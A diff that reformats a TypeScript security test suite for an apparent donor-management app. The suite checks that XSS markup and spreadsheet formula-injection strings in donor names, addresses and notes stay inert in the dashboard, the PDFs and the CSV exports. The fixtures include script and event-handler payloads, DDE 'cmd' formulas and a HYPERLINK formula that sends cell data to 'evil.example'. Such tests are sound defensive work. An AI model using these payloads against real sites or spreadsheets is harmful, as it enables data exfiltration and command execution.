@@ -18,7 +18,14 @@ const XSS_LINE1 = '<script>window.__xss=2</script>1 Elm St';
 const XSS_CITY = '"><svg onload="window.__xss=3">';
 const XSS_MANUAL = '<iframe src="javascript:window.__xss=4"></iframe>Mallory';
 const XSS_NOTES = '<b onmouseover="window.__xss=5">bold</b>';
-const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+];
 const YEAR = new Date().getFullYear();
 
 describe('markup and formulas in donor data', () => {
@@ -34,12 +41,31 @@ describe('markup and formulas in donor data', () => {
     const t = Math.floor(Date.now() / 1000) - 3600;
     const address = { line1: XSS_LINE1, line2: null, city: XSS_CITY, state: 'AR', postal_code: '72560', country: 'US' };
     const donors = [{ id: xssId, name: XSS_NAME, email: 'eve@example.org', address }];
-    FORMULAS.forEach((f, i) => donors.push({ id: `cus_formula${i}`, name: f, email: `f${i}@example.org`, address: { ...address, line1: f, city: 'Town' } }));
+    FORMULAS.forEach((f, i) =>
+      donors.push({
+        id: `cus_formula${i}`,
+        name: f,
+        email: `f${i}@example.org`,
+        address: { ...address, line1: f, city: 'Town' },
+      }),
+    );
     for (const [i, d] of donors.entries()) {
-      await postEvent(stack, buildEvent('customer.created', fixture('customer', { ...d, created: t }), { created: t })).expect(200);
+      await postEvent(
+        stack,
+        buildEvent('customer.created', fixture('customer', { ...d, created: t }), { created: t }),
+      ).expect(200);
       const charge = fixture('charge', {
-        id: `ch_xss${i}`, amount: 30000, amount_captured: 30000, customer: d.id, status: 'succeeded', paid: true, payment_intent: null, created: t + 1,
-        metadata: { frequency: 'one-time' }, billing_details: { address, email: d.email, name: d.name, phone: null, tax_id: null }, invoice: null,
+        id: `ch_xss${i}`,
+        amount: 30000,
+        amount_captured: 30000,
+        customer: d.id,
+        status: 'succeeded',
+        paid: true,
+        payment_intent: null,
+        created: t + 1,
+        metadata: { frequency: 'one-time' },
+        billing_details: { address, email: d.email, name: d.name, phone: null, tax_id: null },
+        invoice: null,
       });
       await postEvent(stack, buildEvent('charge.succeeded', charge, { created: t + 1 })).expect(200);
     }
@@ -48,19 +74,39 @@ describe('markup and formulas in donor data', () => {
     // that rule may still hold them, so those gifts are recorded under a plain name and given the hostile one in
     // the database, as an older row would have it: the rendering below must still keep it inert.
     const hostileNames: Array<[string, string]> = [['Mallory', XSS_MANUAL]];
-    await authed(stack, token).post('/api/admin/manual-donations')
+    await authed(stack, token)
+      .post('/api/admin/manual-donations')
       .send({ donorName: XSS_MANUAL, amount: '500.00', donationType: 'check', donationDate: `${YEAR}-01-02` })
       .expect(400);
-    await authed(stack, token).post('/api/admin/manual-donations')
-      .send({ donorName: 'Mallory', donorAddress: XSS_LINE1, amount: '500.00', donationType: 'check', donationDate: `${YEAR}-01-02`, notes: XSS_NOTES, stripeCustomerId: xssId })
+    await authed(stack, token)
+      .post('/api/admin/manual-donations')
+      .send({
+        donorName: 'Mallory',
+        donorAddress: XSS_LINE1,
+        amount: '500.00',
+        donationType: 'check',
+        donationDate: `${YEAR}-01-02`,
+        notes: XSS_NOTES,
+        stripeCustomerId: xssId,
+      })
       .expect(201);
     for (const [i, f] of FORMULAS.entries()) {
       hostileNames.push([`Formula Donor ${i}`, f]);
-      await authed(stack, token).post('/api/admin/manual-donations')
-        .send({ donorName: `Formula Donor ${i}`, donorAddress: f, donorEmail: '', amount: '260.00', donationType: 'cash', donationDate: `${YEAR}-01-0${i + 3}`, notes: f })
+      await authed(stack, token)
+        .post('/api/admin/manual-donations')
+        .send({
+          donorName: `Formula Donor ${i}`,
+          donorAddress: f,
+          donorEmail: '',
+          amount: '260.00',
+          donationType: 'cash',
+          donationDate: `${YEAR}-01-0${i + 3}`,
+          notes: f,
+        })
         .expect(201);
     }
-    for (const [plain, hostile] of hostileNames) await stack.db.query(`UPDATE manual_donations SET donor_name = $2 WHERE donor_name = $1`, [plain, hostile]);
+    for (const [plain, hostile] of hostileNames)
+      await stack.db.query(`UPDATE manual_donations SET donor_name = $2 WHERE donor_name = $1`, [plain, hostile]);
   });
   afterAll(async () => {
     await browser?.close().catch(() => undefined);
@@ -68,12 +114,15 @@ describe('markup and formulas in donor data', () => {
   });
 
   const csv = async (path: string) => {
-    const res = await authed(stack, token).get(path).buffer(true).parse((r, cb) => {
-      let data = '';
-      r.setEncoding('utf8');
-      r.on('data', (c: string) => (data += c));
-      r.on('end', () => cb(null, data));
-    });
+    const res = await authed(stack, token)
+      .get(path)
+      .buffer(true)
+      .parse((r, cb) => {
+        let data = '';
+        r.setEncoding('utf8');
+        r.on('data', (c: string) => (data += c));
+        r.on('end', () => cb(null, data));
+      });
     expect(res.status).toBe(200);
     return res.body as string;
   };
@@ -107,16 +156,31 @@ describe('markup and formulas in donor data', () => {
 
   it('the client-side donor transaction export neutralises every formula', () => {
     const txs = FORMULAS.map((f, i) => ({
-      id: f, created: 1767250800 + i, amount: 1000, amount_refunded: 0, currency: 'usd', status: f, type: 'card', frequency: 'one-time',
-      donation_type: null, manual_donation_id: null, requires_irs_receipt: false, receipt_url: f, customer: xssId,
-      billing_details: { name: f, email: f }, card: { brand: f, last4: f }, notes: f,
+      id: f,
+      created: 1767250800 + i,
+      amount: 1000,
+      amount_refunded: 0,
+      currency: 'usd',
+      status: f,
+      type: 'card',
+      frequency: 'one-time',
+      donation_type: null,
+      manual_donation_id: null,
+      requires_irs_receipt: false,
+      receipt_url: f,
+      customer: xssId,
+      billing_details: { name: f, email: f },
+      card: { brand: f, last4: f },
+      notes: f,
     }));
     const text = transactionsToCsv(txs as never, { name: XSS_NAME, email: 'eve@example.org' });
     expectNeutralised(cells(text), 'client export');
   });
 
   it('the year-end PDF shows the markup as plain text', async () => {
-    const { res, text: flat } = await fetchPdf(authed(stack, token).get(`/api/admin/tax-exports/year-end/${xssId}/${YEAR}`));
+    const { res, text: flat } = await fetchPdf(
+      authed(stack, token).get(`/api/admin/tax-exports/year-end/${xssId}/${YEAR}`),
+    );
     expect(res.status).toBe(200);
     expect(flat).toContain(XSS_NAME.replace(/\s+/g, ' '));
     expect(flat).toContain('<script>window.__xss=2</script>1 Elm St');
@@ -137,10 +201,12 @@ describe('markup and formulas in donor data', () => {
     await page.getByLabel('Password').fill(admin.password);
     await page.getByRole('button', { name: 'Sign In' }).click();
     await page.getByRole('heading', { name: 'Financial Analytics Dashboard' }).waitFor();
-    const injected = () => page.evaluate(() => ({
-      flag: (window as unknown as { __xss?: number }).__xss ?? null,
-      elements: document.querySelectorAll('img[src="x"], svg[onload], iframe, b[onmouseover], script:not([src])').length,
-    }));
+    const injected = () =>
+      page.evaluate(() => ({
+        flag: (window as unknown as { __xss?: number }).__xss ?? null,
+        elements: document.querySelectorAll('img[src="x"], svg[onload], iframe, b[onmouseover], script:not([src])')
+          .length,
+      }));
 
     await page.getByText('of 7 total donors').waitFor();
     expect(await injected()).toEqual({ flag: null, elements: 0 });
@@ -161,4 +227,3 @@ describe('markup and formulas in donor data', () => {
     expect(res.headers['content-security-policy']).not.toMatch(/script-src [^;]*'unsafe-inline'/);
   }, 90000);
 });
-
